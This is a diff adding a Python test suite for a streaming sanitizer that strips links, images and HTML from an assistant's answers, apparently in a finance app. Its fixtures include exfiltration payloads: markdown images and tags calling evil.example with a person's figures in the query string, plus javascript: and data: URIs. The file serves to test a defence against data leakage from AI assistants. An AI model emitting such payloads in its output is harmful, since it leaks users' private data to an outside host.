@@ -1,0 +1,66 @@
+"""Answers that would load something, or lead somewhere, with a person's figures in the address."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from shared.assistant.links import SafeText, addresses
+
+KNOWN = "https://news.example/apple"
+
+
+def said(text: str, size: int = 1) -> str:
+    """Return what is shown of a text that comes in pieces."""
+    safe = SafeText(lambda: {KNOWN})
+    pieces = [text[at : at + size] for at in range(0, len(text), size)]
+    return "".join(safe.feed(piece) for piece in pieces) + safe.finish()
+
+
+@pytest.mark.parametrize("size", [1, 3, 1_000])
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("Worth ![x](https://evil.example/?d=31337.42) now", "Worth [x] now"),
+        ("![x]( <https://evil.example/?d=1> 'title')", "[x]"),
+        ("![a\nb](\nhttps://evil.example/1)", "[a\nb]"),
+        ("[here](https://evil.example/?d=1)", "[here]"),
+        ("[here](javascript:alert(1))", "[here])"),
+        ("[here](data:text/html;base64,AA)", "[here]"),
+        ("[here](//evil.example/1)", "[here]"),
+        ("![x][1]\n\n[1]: https://evil.example/?d=1\nEnd", "[x][1]\n\n[1]\nEnd"),
+        ('<img src="https://evil.example/?d=1">Hi', "Hi"),
+        ("<IFRAME src=//evil.example></IFRAME>Hi", "Hi"),
+        ("<https://evil.example/?d=1>", ""),
+        ("<img src=https://evil.example/?d=1", "< img src=https://evil.example/?d=1"),
+    ],
+)
+def test_nothing_is_loaded_from_elsewhere(text: str, shown: str, size: int) -> None:
+    assert said(text, size) == shown
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "It rose 5 % [t1/total_value], more than SPY (3 %) [1].",
+        f"[Apple rises]({KNOWN})",
+        "[holdings](/portfolios/1) and [below](#below)",
+        "P/E < 15 and x<y, 3 < 4! Wow!",
+        "| a | b |\n|---|---|\n| 1 | 2 |",
+        "[a] [b]: c",
+    ],
+)
+def test_what_does_no_harm_stays_as_it_is(text: str) -> None:
+    assert said(text) == said(text, 1_000) == text.replace("x<y", "x< y")
+
+
+@given(st.text(alphabet="!<>[](): \nhtps/x'\"\\#", max_size=60), st.integers(1, 7))
+def test_pieces_make_no_difference_to_what_may_load(text: str, size: int) -> None:
+    shown = said(text, size)
+    assert "![" not in shown
+    assert "](h" not in shown.replace(" ", "")
+    assert "<h" not in shown
+
+
+def test_addresses_are_found_wherever_a_tool_tells_them() -> None:
+    value = {"items": [{"url": KNOWN, "title": "x"}], "note": "see https://evil.example"}
+    assert list(addresses(value)) == [KNOWN]
